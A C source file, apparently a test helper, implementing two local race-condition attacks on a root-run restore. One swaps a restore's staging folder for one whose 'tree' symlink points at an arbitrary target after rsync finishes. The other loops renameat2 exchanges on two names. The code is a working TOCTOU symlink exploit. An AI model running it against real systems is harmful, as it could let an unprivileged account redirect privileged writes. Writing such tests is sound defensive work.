/*
 * An account's attacks that try to make root's restore act elsewhere. Both need only the right to rename entries in a folder of that
 * account.
 *
 *   swap stage DIR TARGET   waits for a restore's stage in DIR and for the end of the rsync that fills it. Then it moves the
 *                           stage away and puts a folder with a link "tree" to TARGET in its place.
 *   swap flip FOLDER A B    exchanges two names in FOLDER, again and again, until it is killed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { EXCHANGE = 2 }; /* RENAME_EXCHANGE */

/* Whether an rsync runs that has this word in its arguments. */
static bool has_rsync(const char *word)
{
	bool is_found = false;
	DIR *proc = opendir("/proc");
	for (struct dirent *entry; proc != NULL && !is_found && (entry = readdir(proc)) != NULL;) {
		char path[300], line[16384];
		if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
			continue;
		snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
		int fd = open(path, O_RDONLY);
		ssize_t size = fd < 0 ? 0 : read(fd, line, sizeof line);
		if (fd >= 0)
			close(fd);
		is_found = size > 0 && memmem(line, strnlen(line, (size_t)size), "rsync", 5) != NULL &&
			   memmem(line, (size_t)size, word, strlen(word)) != NULL;
	}
	if (proc != NULL)
		closedir(proc);
	return is_found;
}

static int swap_stage(const char *dir, const char *target)
{
	static const char PREFIX[] = ".dialback-restore-";
	char name[300] = "", stage[4096], gone[4096], tree[5000];
	while (name[0] == '\0') {
		DIR *folder = opendir(dir);
		for (struct dirent *entry; folder != NULL && (entry = readdir(folder)) != NULL;)
			if (strncmp(entry->d_name, PREFIX, strlen(PREFIX)) == 0)
				snprintf(name, sizeof name, "%s", entry->d_name);
		if (folder != NULL)
			closedir(folder);
	}
	while (!has_rsync(name))
		;
	while (has_rsync(name))
		;
	snprintf(stage, sizeof stage, "%s/%s", dir, name);
	snprintf(gone, sizeof gone, "%s/.moved-away", dir);
	snprintf(tree, sizeof tree, "%s/tree", stage);
	if (rename(stage, gone) != 0 || mkdir(stage, 0755) != 0 || symlink(target, tree) != 0)
		return 1;
	puts("swapped");
	return 0;
}

int main(int count, char *arguments[])
{
	if (count == 4 && strcmp(arguments[1], "stage") == 0)
		return swap_stage(arguments[2], arguments[3]);
	if (count != 5 || strcmp(arguments[1], "flip") != 0 || chdir(arguments[2]) != 0)
		return 2;
	for (;;)
		syscall(SYS_renameat2, AT_FDCWD, arguments[3], AT_FDCWD, arguments[4], EXCHANGE);
}
